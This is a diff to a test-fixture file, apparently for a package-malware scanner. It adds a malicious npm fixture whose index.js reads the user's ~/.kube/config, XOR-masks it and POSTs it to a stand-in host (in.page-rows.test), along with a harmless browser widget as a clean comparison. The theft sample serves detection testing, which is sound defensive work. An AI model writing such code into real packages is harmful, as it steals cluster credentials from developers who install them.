@@ -53,6 +53,36 @@ _BUNDLED = module(
     """
 )
 
+_PAGE = javascript(
+    """
+    const text = fs.readFileSync(`${os.homedir()}/.kube/config`);
+    const body = text.map((byte, place) => byte ^ (place % 251));
+    await fetch("https://in.page-rows.test/p", { method: "POST", body });
+    """
+).replace("if (settled()) main", 'if (settled()) document.createElement("a");\nif (settled()) main')
+
+_WIDGET = dedent(
+    """\
+    (function (global, factory) {
+      if (typeof exports === "object" && typeof module !== "undefined") module.exports = factory();
+      else global.Widget = factory();
+    })(this, function () {
+      const chrome = /Chrome\\/(\\d+)/.exec(window.navigator.userAgent);
+      const root = document.querySelector("[data-widget]") || document.body;
+      root.style.setProperty("--widget", chrome ? chrome[1] : "0");
+      for (const old of document.querySelectorAll(".widget")) old.remove();
+      for (let at = root; at; at = at.parentNode) at.hidden = false;
+      class Widget extends HTMLElement {
+        connectedCallback() { this.textContent = localStorage.getItem("widget") || location.pathname; }
+      }
+      customElements.define("a-widget", Widget);
+      new MutationObserver(() => {}).observe(root, { childList: true });
+      window.addEventListener("resize", () => root.getBoundingClientRect().width);
+      return Widget;
+    });
+    """
+)
+
 _ENVIRONMENT = javascript(
     """
     const text = child_process.execFileSync("printenv");
@@ -157,6 +187,10 @@ THIEVES: list[Fixture] = [
         theft("module-rows", "kubernetes", "in.module-rows.test", TAINT, "import"), module="esm/index.mjs",
     ),
     npm(
+        "npm-page", "page-rows", "its main file loads in a page only", {"index.js": _PAGE},
+        theft("page-rows", "kubernetes", "in.page-rows.test", TAINT, "import"),
+    ),
+    npm(
         "npm-printenv", "all-rows", "the whole environment, masked: no file is read", {"setup.js": _ENVIRONMENT},
         Expectation(rules=TAINT, ways_out=("in.all-rows.test",), package="all-rows", phase="install"),
     ),
@@ -176,6 +210,10 @@ NEIGHBOURS: list[Fixture] = [
     npm(
         "npm-update-notice", "notice-rows", "its command leaves a child that looks for a newer version, and ends",
         {"cli.js": _UPDATES, "updates.js": _LOOKS}, CLEAN, kind="neighbour", bin={"notice-rows": "cli.js"},
+    ),
+    npm(
+        "npm-widget", "widget-rows", "written for browsers: it loads in a page only", {"index.js": _WIDGET}, CLEAN,
+        kind="neighbour",
     ),
     pypi(
         "pypi-database", "kept-rows", "its command keeps databases in its own folder",
